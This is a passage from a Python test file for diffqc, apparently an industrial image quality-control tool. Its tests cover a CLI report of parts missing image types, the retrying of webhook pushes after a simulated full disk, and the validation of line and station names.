        assert (everything["PASS"], everything["REVIEW"], everything["REJECT"]) == counts, window
    assert rows[0]["complete"] is None  # which types a part should have: not known without --model


def test_cli_results_parts_names_the_types_a_part_lacks(tmp_path: Path, tiny_model: Path,
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    """With ``--model`` a part lacking some of the model's types is named incomplete (a shift's
    parts that never got all their crops); a damaged bundle is one error line."""
    import csv
    import json

    from diffqc.bundle import read_bundle
    from diffqc.cli import main

    types = list(read_bundle(tiny_model)[1]["classes"])
    db = tmp_path / "line.db"
    with ResultStore(str(db)) as store:
        store.insert_many([_rec("P-1", feature_type=t, type_known=True) for t in types]
                          + [_rec("P-2", feature_type=types[0], type_known=True)])
    assert main(["results", "parts", "--db", str(db), "--model", str(tiny_model)]) == 0
    out = capsys.readouterr()
    rows = [json.loads(x) for x in out.out.splitlines()]
    assert [(r["part_id"], r["complete"], r["missing"]) for r in rows] == [
        ("P-1", True, []), ("P-2", False, types[1:])]
    assert "1 part incomplete (without an image of every type of the model)" in out.err
    assert main(["results", "parts", "--db", str(db), "--model", str(tiny_model), "--incomplete"]) == 0
    out = capsys.readouterr()
    assert [json.loads(x)["part_id"] for x in out.out.splitlines()] == ["P-2"]
    assert "diffqc: 1 part: PASS 1 (100.0 %)" in out.err
    assert main(["results", "parts", "--db", str(db), "--incomplete"]) == 1  # which types: the model's
    assert "--incomplete needs --model MODEL or --part-types" in capsys.readouterr().err
    # a line whose parts have fewer types than the model: P-2's one type is the whole part
    assert main(["results", "parts", "--db", str(db), "--part-types", types[0], "--incomplete"]) == 0
    out = capsys.readouterr()
    assert out.out == "" and "no part matches" in out.err
    assert main(["results", "parts", "--db", str(db), "--part-types", f"{types[0]}, x"]) == 0  # no model
    out = capsys.readouterr()
    assert [json.loads(x)["missing"] for x in out.out.splitlines()] == [["x"], ["x"]]
    # a type the store holds no image of (a typo without --model to check it by) is said, not
    # only every part incomplete for it
    assert (f"diffqc: --part-types names 'x', of which the store holds no image: every part lacks it; "
            f"the store holds {', '.join(sorted(types))}") in out.err
    assert main(["results", "parts", "--db", str(db), "--part-types", types[0][:-1]]) == 0
    assert f"(did you mean {types[0]!r}?)" in capsys.readouterr().err
    assert main(["results", "parts", "--db", str(db), "--part-types", types[0]]) == 0
    assert "--part-types" not in capsys.readouterr().err
    assert main(["results", "parts", "--db", str(db), "--model", str(tiny_model), "--part-types", "x"]) == 1
    assert "--part-types names 'x', not a type of this model" in capsys.readouterr().err
    assert main(["results", "parts", "--db", str(db), "--model", str(tiny_model), "--format", "csv"]) == 0
    table = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [(r["complete"], r["missing"]) for r in table] == [("True", ""), ("False", " ".join(types[1:]))]
    (tmp_path / "broken").mkdir()
    assert main(["results", "parts", "--db", str(db), "--model", str(tmp_path / "broken")]) == 1
    assert "broken" in capsys.readouterr().err


def test_an_overdue_part_whose_push_the_store_refused_is_pushed_once_it_can_write(
        tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """``--part-timeout --push-parts``: the store refusing writes while it still reads (a full
    disk) when a part came due judged the part and lost its push; the push now waits for the
    store and goes once it can write, once. Once pushed, the store keeps that it was judged: a
    crash now, and the next run would not push it again."""
    import json
    import logging
    import sqlite3
    import time
    from types import SimpleNamespace

    from diffqc.service.line import LineServices
    from diffqc.service.parts import OverdueParts
    from diffqc.service.sinks import OUTBOX
    from diffqc.service.store import ResultRecord, ResultStore
    from tests.test_sinks import wait_for

    db = tmp_path / "r.db"
    settings = SimpleNamespace(webhook_url="http://127.0.0.1:9/hook", push_parts="complete",
                               part_timeout_s=0.3, calibration_poll_s=0.05)
    with ResultStore(str(db)) as store, caplog.at_level(logging.INFO, logger="diffqc"):
        line = LineServices(settings, store, None, SimpleNamespace(classes_=["edge", "dots"]))
        line.start()
        try:
            assert line.outbox is not None and line.overdue is not None
            store.insert(ResultRecord(created_at=time.time(), source="test", decision="PASS", part_id="Q-1",
                                      feature_type="edge", type_known=True))
            with sqlite3.connect(db) as admin:  # the database refuses the outbox's rows from now on
                admin.execute(f"CREATE TRIGGER full BEFORE INSERT ON {OUTBOX} "
                              "BEGIN SELECT RAISE(ABORT, 'database or disk is full'); END")
            wait_for(lambda: line.overdue is not None and line.overdue.overdue_total == 1, what="Q-1 judged")
            time.sleep(0.3)  # a few more polls against the refusing store
            with sqlite3.connect(db) as admin:
                admin.execute("DROP TRIGGER full")

            def overdue() -> list[str]:
                rows = line.outbox.due("webhook", time.time() + 3600, limit=100) if line.outbox else []
                return [json.loads(m.payload)["part_id"] for m in rows if m.kind == "part"]

            wait_for(lambda: overdue() == ["Q-1"], what="Q-1 pushed")
            time.sleep(0.3)
            assert overdue() == ["Q-1"]  # once
            # what a run started after a crash now (no stop) would resume: nothing
            assert OverdueParts(store, 0.3, ["edge", "dots"]).resume(time.time()) == 0
        finally:
            line.stop()
    down = [r for r in caplog.records if "cannot judge or push the overdue parts" in r.getMessage()]
    assert len(down) == 1 and "database or disk is full" in down[0].getMessage()
    assert any("the overdue parts can be judged and pushed again" in r.getMessage() for r in caplog.records)


@pytest.mark.parametrize("option", ["--line", "--station", "--camera"])
def test_a_line_name_the_api_could_not_filter_by_is_refused_as_parsed(
        option: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`watch --line "L1<tab>X"` stored the line with every part, but `GET /v1/results?line=...`
    refuses a tab (422 bad_line): a line its own API could not be asked about; `serve --station`
    with a control character started alike. A usage error now, as the API's rule (at most 200
    printable characters, not empty)."""
    from diffqc.cli import main

    for bad, said in [("L1\tX", "printable"), ("c" * 201, "at most 200"), ("", "empty")]:
        for command in (["watch", str(tmp_path), str(tmp_path)], ["serve", str(tmp_path)]):
            with pytest.raises(SystemExit) as exit_:
                main([*command, option, bad])
            assert exit_.value.code == 2
            err = capsys.readouterr().err
            assert f"argument {option}: expected" in err and said in err, err
    for bad, said in [("cam\n1", "printable"), ("s" * 1001, "at most 1000")]:  # watch's own, its source
        with pytest.raises(SystemExit):
            main(["watch", str(tmp_path), str(tmp_path), "--source", bad])
        assert said in capsys.readouterr().err
